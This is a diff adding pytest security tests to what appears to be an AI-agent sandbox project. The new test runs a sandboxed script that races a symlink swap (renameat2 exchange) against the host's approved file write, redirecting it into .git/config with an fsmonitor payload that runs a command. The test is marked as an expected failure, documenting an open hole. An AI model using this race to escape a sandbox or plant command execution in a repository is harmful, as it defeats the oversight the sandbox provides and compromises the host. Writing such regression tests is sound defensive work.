@@ -10,11 +10,13 @@ so a pass is not a judge that cannot see. A case whose attack still succeeds is
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import shutil
 import subprocess
 import sys
+import time
 from pathlib import Path
 
 import pytest
@@ -315,3 +317,79 @@ def test_bytecode_written_in_the_run_control(tmp_path: Path, mode: str) -> None:
     subprocess.run([PY, str(writer), mode, str(marker)], cwd=work, check=True)
     _pyc_judge(work)
     assert marker.exists()
+
+
+# --- 5. an approved file write, its folder swapped for a link while it runs ----
+
+# ``queue.runner.apply_write`` (run on the host by the executor) resolves the
+# approved path once, checks it against the protected set, then opens and
+# replaces it by path. A sandboxed command that keeps exchanging the approved
+# folder with a link (renameat2 RENAME_EXCHANGE) gets the approved bytes
+# written wherever the link points: here the repository's .git/config.
+FLIPPER = """
+import ctypes, os, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+os.chdir(sys.argv[1])
+os.symlink("../.git", "src/y")
+open("ready", "w").close()
+end = time.time() + float(sys.argv[2])
+while time.time() < end and not os.path.exists("stop"):
+    libc.syscall(316, -100, b"src/x", -100, b"src/y", 2)  # x86_64 renameat2, EXCHANGE
+"""
+PAYLOAD = "[core]\n\tfsmonitor = echo pwned\n"
+
+
+def _write_request(repo: Path) -> dict:
+    return {"tool": "Write", "cwd": str(repo), "kind": "write",
+            "params": {"file_path": "src/x/config", "content": PAYLOAD}}
+
+
+def _repo_for_write(tmp_path: Path) -> Path:
+    repo = tmp_path / "repo"
+    (repo / "src/x").mkdir(parents=True)
+    subprocess.run(["git", "init", "-q", str(repo)], check=True, env=host_env(tmp_path / "h"))
+    return repo
+
+
+@pytest.mark.skipif(os.uname().machine != "x86_64", reason="syscall number of renameat2")
+@pytest.mark.xfail(strict=True, reason="runner.apply_write checks a resolved path, then "
+                   "opens and renames by path: a swapped folder redirects the write")
+def test_approved_write_folder_swapped(tmp_path: Path) -> None:
+    from agent_sandbox.queue.runner import apply_write
+
+    repo = _repo_for_write(tmp_path)
+    flipper = tmp_path / "flip.py"
+    flipper.write_text(FLIPPER)
+    proc = subprocess.Popen([*SANDBOX, "exec", "--settings",
+                             str(settings_for(tmp_path, repo)), "--", PY, str(flipper),
+                             str(repo), "8"], cwd=repo, stdout=subprocess.DEVNULL,
+                            stderr=subprocess.DEVNULL)
+    try:
+        deadline = time.monotonic() + 20
+        while not (repo / "ready").exists():
+            assert time.monotonic() < deadline and proc.poll() is None, "flipper did not start"
+            time.sleep(0.02)
+        end = time.monotonic() + 5
+        while time.monotonic() < end and "fsmonitor" not in (repo / ".git/config").read_text():
+            with contextlib.suppress(OSError):
+                apply_write(str(repo), _write_request(repo))
+    finally:
+        (repo / "stop").touch()
+        proc.wait(timeout=30)
+    assert "fsmonitor" not in (repo / ".git/config").read_text(), \
+        "the approved write to src/x/config landed in .git/config"
+
+
+def test_approved_write_folder_swapped_control(tmp_path: Path) -> None:
+    """Control: a link in place before the write is refused (the check works when
+    nothing moves), and the judge sees the payload when it is in .git/config."""
+    from agent_sandbox.queue.runner import apply_write
+
+    repo = _repo_for_write(tmp_path)
+    (repo / "src/x").rmdir()
+    (repo / "src/x").symlink_to("../.git")
+    r = apply_write(str(repo), _write_request(repo))
+    assert r["status"] == "refused"
+    assert "fsmonitor" not in (repo / ".git/config").read_text()
+    (repo / ".git/config").write_text(PAYLOAD)
+    assert "fsmonitor" in (repo / ".git/config").read_text()
